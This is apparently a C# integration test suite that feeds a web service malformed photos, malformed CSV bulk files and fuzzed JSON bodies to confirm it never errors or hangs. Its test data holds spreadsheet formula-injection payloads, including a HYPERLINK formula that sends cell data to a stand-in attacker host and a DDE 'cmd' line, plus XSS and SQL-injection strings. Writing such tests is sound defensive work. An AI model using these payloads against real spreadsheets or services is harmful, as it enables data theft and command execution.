using System.Diagnostics;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Microsoft.AspNetCore.Http;
using MyStamp.Integration.Tests.Infrastructure;
using MyStamp.Integration.Tests.Studio;
using MyStamp.Studio.Tests;

namespace MyStamp.Integration.Tests.Resilience;

/// <summary>
/// A node of its own database (the fuzz loop publishes policy versions and records objections that no other
/// test should meet), with a customer, a Pro account and an admin signed in.
/// </summary>
public sealed class HostileWorld : IAsyncLifetime
{
    private string _connectionString = "";

    public MyStampNode Node { get; private set; } = null!;
    public HttpClient Customer { get; private set; } = null!;
    public HttpClient Pro { get; private set; } = null!;
    public HttpClient Admin { get; private set; } = null!;
    public HttpClient Anonymous { get; private set; } = null!;
    public Guid CustomerDesign { get; private set; }
    public Guid CustomerOrder { get; private set; }

    public async Task InitializeAsync()
    {
        _connectionString = await TestDatabase.CreateIsolated("hostile");
        Node = new MyStampNode(connectionString: _connectionString).Start();
        Anonymous = Node.CreateApiClient();
        Admin = await Node.LoginAsAdmin();
        (_, Customer) = await Node.SignedInConsumer();
        (_, Pro) = await Node.SignedInPro();
        CustomerDesign = await ResilienceWorld.ApprovedDesign(Customer, Admin);
        CustomerOrder = await ResilienceWorld.PlaceOrder(Customer, CustomerDesign);
    }

    public async Task DisposeAsync()
    {
        foreach (var client in new[] { Customer, Pro, Admin, Anonymous })
        {
            client?.Dispose();
        }
        await Node.DisposeAsync();
        await TestDatabase.DropIsolated(_connectionString);
    }
}

/// <summary>
/// Hostile input: a corpus of malformed photos and bulk files, and a seeded fuzz loop over every JSON POST/PUT
/// route. Every answer comes within the per-request timeout, none is a 500, and the node's memory stays
/// bounded. Runs alone (memory is measured), after the classes that run in parallel.
/// </summary>
[Collection(nameof(MeasuredAlone))]
public sealed class HostileInputTests(HostileWorld world) : IClassFixture<HostileWorld>
{
    private static readonly TimeSpan PerRequest = TimeSpan.FromSeconds(15);

    /// <summary>Seed of the fuzz loop: a failure names it with the request, so it can be replayed.</summary>
    private const int Seed = 20_260_309;

    private const int MutationsPerRoute = 24;

    public static TheoryData<string> Photos => new(PhotoCorpus.Keys);

    public static TheoryData<string> BulkFiles => new(CsvCorpus.Keys);

    private static readonly Dictionary<string, (Func<byte[]> Bytes, string ContentType, string FileName)> PhotoCorpus = new()
    {
        ["truncated JPEG"] = (TestPhotos.TruncatedJpeg, "image/jpeg", "cut.jpg"),
        ["PNG header declaring 100 000 x 100 000 pixels"] = (() => TestPhotos.PngBombHeader(), "image/png", "bomb.png"),
        ["PNG header declaring 65 535 x 1 pixels"] = (() => TestPhotos.PngBombHeader(65_535, 1), "image/png", "strip.png"),
        ["JPEG with an HTML page appended (polyglot)"] = (() => [.. TestPhotos.CameraJpeg(1200, 900), .. "<html><script>alert(1)</script></html>"u8.ToArray()], "image/jpeg", "poly.jpg"),
        ["PDF header followed by a JPEG (polyglot)"] = (() => [.. "%PDF-1.7\n"u8.ToArray(), .. TestPhotos.CameraJpeg(1200, 900)], "image/jpeg", "poly.pdf.jpg"),
        ["ZIP archive named .png"] = (() => [0x50, 0x4B, 0x03, 0x04, .. new byte[2000]], "image/png", "archive.png"),
        ["SVG with a script"] = (TestPhotos.Svg, "image/svg+xml", "drawing.svg"),
        ["SVG claiming to be a PNG"] = (TestPhotos.Svg, "image/png", "drawing.png"),
        ["0-byte file"] = (() => [], "image/jpeg", "empty.jpg"),
        ["JPEG magic and nothing else"] = (() => [0xFF, 0xD8, 0xFF], "image/jpeg", "magic.jpg"),
        ["random bytes"] = (() => RandomBytes(64 * 1024, 7), "image/jpeg", "noise.jpg"),
        ["30 MB file"] = (() => RandomBytes(30 * 1024 * 1024, 8), "image/jpeg", "huge.jpg"),
    };

    private static readonly string Header = "designId,tariff,sheets,street,houseNumber,box,postalCode,city,country\n";

    private static readonly Dictionary<string, Func<HostileWorld, byte[]>> CsvCorpus = new()
    {
        ["0-byte file"] = _ => [],
        ["header only"] = _ => Encoding.UTF8.GetBytes(Header),
        ["UTF-16 with a byte-order mark"] = world => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Header + Line(world, "Wetstraat"))],
        ["invalid UTF-8 bytes"] = world => [.. Encoding.UTF8.GetBytes(Header), 0xC3, 0x28, 0xA0, 0xA1, 0xFF, 0xFE, .. Encoding.UTF8.GetBytes("," + Line(world, "x"))],
        ["Latin-1 accents"] = world => Encoding.Latin1.GetBytes(Header + Line(world, "Rue de l'Église")),
        ["unbalanced quotes"] = world => Encoding.UTF8.GetBytes(Header + $"\"{world.CustomerDesign},\"BelgiumNonPrior,1,\"Wetstraat,1,,1000,Brussel,BE\n" + "\"\"\"\n"),
        ["a quoted field running to the end of the file"] = _ => Encoding.UTF8.GetBytes(Header + "\"" + new string('a', 100_000)),
        ["formula injection"] = world => Encoding.UTF8.GetBytes(Header
            + "=HYPERLINK(\"http://evil.example/?\"&A1),BelgiumNonPrior,1,Wetstraat,1,,1000,Brussel,BE\n"
            + $"{world.CustomerDesign},+cmd|' /C calc'!A0,1,@SUM(1+1),1,,1000,Brussel,BE\n"
            + $"{world.CustomerDesign},BelgiumNonPrior,-1+1,=1+1,1,,1000,Brussel,BE\n"),
        ["10 001 lines"] = world => Encoding.UTF8.GetBytes(Header + string.Concat(Enumerable.Repeat(Line(world, "Wetstraat"), 10_001))),
        ["6 MB file"] = world => Encoding.UTF8.GetBytes(Header + new string('x', 6 * 1024 * 1024)),
        ["binary file (a PNG)"] = _ => TestPhotos.Png(400, 400, TestPhotos.Red),
        ["wrong columns"] = _ => Encoding.UTF8.GetBytes("a;b;c\n1;2;3\n"),
        ["a line of 100 000 fields"] = _ => Encoding.UTF8.GetBytes(Header + string.Join(',', Enumerable.Repeat("1", 100_000)) + "\n"),
    };

    private static string Line(HostileWorld world, string street) => $"{world.CustomerDesign},BelgiumNonPrior,1,{street},1,,1000,Brussel,BE\n";

    [Theory]
    [MemberData(nameof(Photos))]
    public async Task A_malformed_photo_gets_a_problem_answer_never_a_server_error(string name)
    {
        var (bytes, contentType, fileName) = PhotoCorpus[name];
        var file = new ByteArrayContent(bytes());
        file.Headers.ContentType = MediaTypeHeaderValue.Parse(contentType);
        using var form = new MultipartFormDataContent { { file, "photo", fileName } };

        var (status, body, elapsed) = await Send(world.Customer, HttpMethod.Post, "/api/designs", form);

        Assert.True(status is 201 or 400 or 413 or 415, $"{name} → {status} {body}");
        Assert.True(elapsed < PerRequest, $"{name} took {elapsed.TotalSeconds:0.0} s");
        if (status == 201)
        {
            // A polyglot may carry a real photo; what is stored is the re-encoded pixels, never the passenger.
            var designId = JsonNode.Parse(body)!["designId"]!.GetValue<Guid>();
            var stored = await world.Customer.GetByteArrayAsync($"/api/designs/{designId}/photo.jpg");
            Assert.DoesNotContain("<script", Encoding.Latin1.GetString(stored), StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("%PDF", Encoding.Latin1.GetString(stored), StringComparison.Ordinal);
        }
    }

    [Theory]
    [MemberData(nameof(BulkFiles))]
    public async Task A_malformed_bulk_file_gets_a_problem_answer_or_line_errors_never_a_server_error(string name)
    {
        using var form = ResilienceWorld.BulkForm(CsvCorpus[name](world));

        var (status, body, elapsed) = await Send(world.Pro, HttpMethod.Post, "/api/pro/bulk-orders", form);

        Assert.True(status is 202 or 400 or 413 or 415, $"{name} → {status} {body}");
        Assert.True(elapsed < PerRequest, $"{name} took {elapsed.TotalSeconds:0.0} s");
        if (status == 202)
        {
            var bulkOrderId = JsonNode.Parse(body)!["bulkOrderId"]!.GetValue<Guid>();
            var report = await Finished(bulkOrderId);
            // Line errors name the line and the problem, never repeat what the line said (formulas included).
            foreach (var error in report["errors"]!.AsArray())
            {
                var message = (string)error!["message"]!;
                Assert.DoesNotContain("HYPERLINK", message, StringComparison.OrdinalIgnoreCase);
                Assert.DoesNotContain("cmd|", message, StringComparison.OrdinalIgnoreCase);
                Assert.DoesNotContain("@SUM", message, StringComparison.OrdinalIgnoreCase);
            }
        }
    }

    [Fact]
    public async Task Mutated_bodies_on_every_json_route_never_get_a_server_error_or_hang_and_memory_stays_bounded()
    {
        var routes = world.Node.Routes().Requests()
            .Where(request => request.Method is "POST" or "PUT" && request.Route.Route.StartsWith("/api/", StringComparison.OrdinalIgnoreCase)
                && !request.Route.Route.Contains("logout", StringComparison.OrdinalIgnoreCase))
            .ToList();
        Assert.True(routes.Count >= 15, $"only {routes.Count} JSON routes found");
        await Fuzz(routes.Take(3).ToList(), new Random(Seed), [], mutations: 4); // JIT, pools and caches settle before measuring
        var before = WorkingSet();

        var failures = new List<string>();
        var sent = await Fuzz(routes, new Random(Seed), failures, MutationsPerRoute);

        var after = WorkingSet();
        Assert.True(failures.Count == 0, $"{failures.Count} of {sent} fuzzed requests failed (seed {Seed}):\n" + string.Join('\n', failures.Take(40)));
        Assert.True(after - before < 300L * 1024 * 1024,
            $"the working set grew from {before / (1024 * 1024)} MB to {after / (1024 * 1024)} MB over {sent} requests");
    }

    private async Task<int> Fuzz(List<(AppRoute Route, string Method)> routes, Random random, List<string> failures, int mutations)
    {
        var sent = 0;
        foreach (var (route, method) in routes)
        {
            var client = CallerFor(route.Route);
            var valid = ValidBody(route.Route, method);
            for (var attempt = 0; attempt < mutations; attempt++)
            {
                var path = RouteCatalog.PathOf(route, parameter => parameter.IsInteger() ? random.Next(-2, 5).ToString()
                    : random.Next(3) == 0 ? Guid.NewGuid().ToString() : (route.Route.Contains("designs", StringComparison.Ordinal) ? world.CustomerDesign : world.CustomerOrder).ToString());
                var (body, mediaType) = Mutate(valid, random);
                using var content = new ByteArrayContent(body);
                content.Headers.ContentType = new MediaTypeHeaderValue(mediaType);
                var (status, answer, elapsed) = await Send(client, new HttpMethod(method), path, content);
                sent++;
                if (status >= 500 || elapsed >= PerRequest)
                {
                    failures.Add($"{method} {path} → {status} in {elapsed.TotalSeconds:0.0} s; body: {Shorten(Encoding.UTF8.GetString(body))}; answer: {Shorten(answer)}");
                }
            }
        }
        return sent;
    }

    private HttpClient CallerFor(string route) =>
        route.StartsWith("/api/admin/", StringComparison.OrdinalIgnoreCase) ? world.Admin
        : route.StartsWith("/api/pro/", StringComparison.OrdinalIgnoreCase) ? world.Pro
        // Registering and signing in with mutated bodies must not replace a signed-in caller's session.
        : route.StartsWith("/api/account/", StringComparison.OrdinalIgnoreCase) && !route.EndsWith("/me", StringComparison.OrdinalIgnoreCase) ? world.Anonymous
        : world.Customer;

    /// <summary>A valid body of each JSON route of API.md; an empty object for the others (their mutations still count).</summary>
    private JsonObject ValidBody(string route, string method)
    {
        var registration = Accounts.ConsumerRegistration();
        return (route.ToLowerInvariant(), method) switch
        {
            ("/api/account/register", _) => registration,
            ("/api/account/login", _) => new JsonObject { ["email"] = "nobody@example.test", ["password"] = "wrong password!" },
            ("/api/account/me", "PUT") => Without(registration, "password"),
            ("/api/designs/{id:guid}", "PUT") => new JsonObject { ["format"] = "Landscape", ["crop"] = new JsonObject { ["x"] = 0, ["y"] = 0, ["width"] = 1200, ["height"] = 900 } },
            ("/api/orders" or "/api/orders/", "POST") => new JsonObject { ["designId"] = world.CustomerDesign.ToString(), ["tariff"] = "Europe", ["sheets"] = 1, ["controllerAttestation"] = true },
            (var r, _) when r.EndsWith("/status", StringComparison.Ordinal) => new JsonObject { ["status"] = "Cancelled" },
            (var r, _) when r.EndsWith("/review", StringComparison.Ordinal) => new JsonObject { ["decision"] = "Reject", ["reason"] = "PoorQuality" },
            (var r, _) when r.EndsWith("/decision", StringComparison.Ordinal) => new JsonObject { ["decision"] = "Extend", ["reason"] = "Complex request" },
            (var r, _) when r.EndsWith("/objections", StringComparison.Ordinal) => new JsonObject { ["channel"] = "Post" },
            (var r, _) when r.EndsWith("/audience-exports", StringComparison.Ordinal) => new JsonObject { ["channel"] = "Email" },
            (var r, _) when r.EndsWith("/acknowledge", StringComparison.Ordinal) => new JsonObject { ["version"] = 1 },
            _ => new JsonObject(),
        };
    }

    private static JsonObject Without(JsonObject body, string field)
    {
        var copy = body.DeepClone().AsObject();
        copy.Remove(field);
        return copy;
    }

    /// <summary>One seeded mutation of a valid body: a field removed, nulled, retyped, oversized or garbled; the JSON cut, nested, doubled; not JSON at all.</summary>
    private static (byte[] Body, string MediaType) Mutate(JsonObject valid, Random random)
    {
        var body = valid.DeepClone().AsObject();
        var fields = Leaves(body).ToList();
        JsonNode? Pick(out string name, out JsonObject parent)
        {
            if (fields.Count == 0)
            {
                name = "extra";
                parent = body;
                return null;
            }
            (parent, name) = fields[random.Next(fields.Count)];
            return parent[name];
        }
        switch (random.Next(14))
        {
            case 0: { Pick(out var name, out var parent); parent.Remove(name); break; }
            case 1: { Pick(out var name, out var parent); parent[name] = null; break; }
            case 2: { Pick(out var name, out var parent); parent[name] = random.Next(2) == 0 ? 1e308 : long.MinValue; break; }
            case 3: { Pick(out var name, out var parent); parent[name] = new string('x', random.Next(2) == 0 ? 300 : 200_000); break; }
            case 4: { Pick(out var name, out var parent); parent[name] = "\u0000\u202E\uFEFF💥\r\n<script>'; DROP TABLE x;--"; break; }
            case 5: { Pick(out var name, out var parent); parent[name] = new JsonArray(1, "two", null, new JsonObject()); break; }
            case 6: { Pick(out var name, out var parent); parent[name] = random.Next(2) == 0; break; }
            case 7: { Pick(out var name, out var parent); parent[name] = new JsonObject { ["nested"] = new JsonObject() }; break; }
            case 8: body["unexpected" + random.Next(100)] = "field"; break;
            case 9:
            {
                var text = body.ToJsonString();
                return (Encoding.UTF8.GetBytes(text[..random.Next(Math.Max(1, text.Length))]), "application/json");
            }
            case 10: return (Encoding.UTF8.GetBytes(new string('[', 5000) + new string(']', 5000)), "application/json");
            case 11:
            {
                var text = body.ToJsonString();
                return (Encoding.UTF8.GetBytes(text.Length > 2 ? text[..^1] + "," + text[1..] : text), "application/json");
            }
            case 12: return (RandomBytes(random.Next(1, 4096), random.Next()), "application/json");
            default: return (Encoding.UTF8.GetBytes(body.ToJsonString()), random.Next(2) == 0 ? "text/plain" : "application/x-www-form-urlencoded");
        }
        return (Encoding.UTF8.GetBytes(body.ToJsonString()), "application/json");
    }

    private static IEnumerable<(JsonObject Parent, string Name)> Leaves(JsonObject body)
    {
        foreach (var (name, value) in body.ToList())
        {
            yield return (body, name);
            if (value is JsonObject nested)
            {
                foreach (var leaf in Leaves(nested))
                {
                    yield return leaf;
                }
            }
        }
    }

    private async Task<JsonObject> Finished(Guid bulkOrderId)
    {
        var deadline = DateTime.UtcNow + TimeSpan.FromSeconds(60);
        while (true)
        {
            var report = (await world.Pro.GetFromJsonAsync<JsonObject>($"/api/pro/bulk-orders/{bulkOrderId}"))!;
            if ((string?)report["status"] != "Running" || DateTime.UtcNow > deadline)
            {
                Assert.NotEqual("Running", (string?)report["status"]);
                return report;
            }
            await Task.Delay(200);
        }
    }

    private static async Task<(int Status, string Body, TimeSpan Elapsed)> Send(HttpClient client, HttpMethod method, string path, HttpContent content)
    {
        using var timeout = new CancellationTokenSource(PerRequest);
        var timer = Stopwatch.StartNew();
        try
        {
            using var response = await client.SendAsync(new HttpRequestMessage(method, path) { Content = content }, timeout.Token);
            var body = await response.Content.ReadAsStringAsync(timeout.Token);
            return ((int)response.StatusCode, body, timer.Elapsed);
        }
        catch (OperationCanceledException)
        {
            return (0, "(no answer within the per-request timeout)", PerRequest);
        }
    }

    private static long WorkingSet()
    {
        GC.Collect();
        GC.WaitForPendingFinalizers();
        GC.Collect();
        using var process = Process.GetCurrentProcess();
        process.Refresh();
        return process.WorkingSet64;
    }

    private static byte[] RandomBytes(int length, int seed)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        return bytes;
    }

    private static string Shorten(string text) => text.Length <= 160 ? text : text[..160] + "…";
}
